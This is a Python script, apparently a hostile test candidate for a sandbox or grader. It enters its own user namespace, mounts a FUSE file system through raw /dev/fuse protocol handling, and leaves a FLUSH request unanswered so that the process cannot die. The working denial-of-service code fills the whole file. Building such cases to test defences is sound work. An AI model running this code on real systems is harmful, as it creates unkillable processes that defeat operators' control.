"""A hostile candidate (never imported by the tests: its text is graded): mount a FUSE file system
from a user namespace of its own and leave a request that nobody answers, so that the process
cannot die (issue 19, item 1). Returns "yes" only when the mount worked."""

import ctypes
import os
import struct
import threading


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(0x10000000 | 0x00020000) != 0:
        return "no: unshare " + os.strerror(ctypes.get_errno())
    for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", f"0 {uid} 1"),
                       ("/proc/self/gid_map", f"0 {gid} 1")):
        with open(path, "w") as f:
            f.write(text)
    try:
        dev = os.open("/dev/fuse", os.O_RDWR)
    except OSError as exc:
        return f"no: /dev/fuse {exc}"
    os.dup2(dev, 60)
    os.close(dev)
    dev = 60
    mnt = os.path.join(os.getcwd(), "mnt")
    os.makedirs(mnt, exist_ok=True)
    opts = f"fd={dev},rootmode=40000,user_id=0,group_id=0".encode()
    if libc.mount(b"fuse", mnt.encode(), b"fuse", ctypes.c_ulong(6), opts) != 0:
        return "no: mount " + os.strerror(ctypes.get_errno())
    opened = threading.Event()

    def opener():
        fd = os.open(mnt + "/f", os.O_RDONLY)
        os.dup2(fd, 0)  # the FUSE file below /dev/fuse: closed first when the process exits
        opened.set()

    attr = struct.pack("QQQQQQIIIIIIIIII", 2, 0, 0, 0, 0, 0, 0, 0, 0, 0o100644, 1, 0, 0, 0, 4096, 0)
    root = struct.pack("QQQQQQIIIIIIIIII", 1, 0, 0, 0, 0, 0, 0, 0, 0, 0o40755, 2, 0, 0, 0, 4096, 0)
    threading.Thread(target=opener, daemon=True).start()
    while not opened.is_set():
        data = os.read(dev, 1 << 20)
        length, opcode, unique, nodeid = struct.unpack_from("IIQQ", data)
        if opcode == 26:  # INIT
            body = struct.pack("IIIIHHIIHHI", 7, 31, 0, 0, 16, 12, 4096, 1, 32, 0, 0) + b"\0" * 28
        elif opcode == 1:  # LOOKUP
            body = struct.pack("QQQQII", 2, 0, 3600, 3600, 0, 0) + attr
        elif opcode == 3:  # GETATTR
            body = struct.pack("QII", 3600, 0, 0) + (root if nodeid == 1 else attr)
        elif opcode == 14:  # OPEN
            body = struct.pack("QIi", 1, 0, 0)
        else:
            os.write(dev, struct.pack("IiQ", 16, -38, unique))
            continue
        os.write(dev, struct.pack("IiQ", 16 + len(body), 0, unique) + body)
    return "yes: mounted, nobody answers its FLUSH when this process ends"
